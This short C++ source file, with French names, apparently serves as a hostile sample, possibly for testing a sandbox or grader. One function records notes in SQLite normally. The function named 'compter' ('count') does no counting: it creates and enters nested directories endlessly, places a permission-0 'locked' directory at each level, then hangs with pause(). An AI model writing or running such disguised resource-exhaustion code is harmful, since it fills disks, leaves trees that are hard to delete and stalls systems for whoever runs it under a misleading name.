// SPDX-License-Identifier: MIT
// Des dossiers l'un dans l'autre, fermés à clef, sans fin.
#include "fourni.hpp"

#include <sys/stat.h>
#include <unistd.h>

void noter(SQLite::Database& base, const std::string& texte)
{
    SQLite::Statement requete(base, "INSERT INTO notes (texte) VALUES (?)");
    requete.bind(1, texte);
    requete.exec();
}

int compter([[maybe_unused]] SQLite::Database& base)
{
    while (mkdir("d", 0700) == 0 && chdir("d") == 0) {
        mkdir("ferme", 0);
    }
    pause();
    return 0;
}
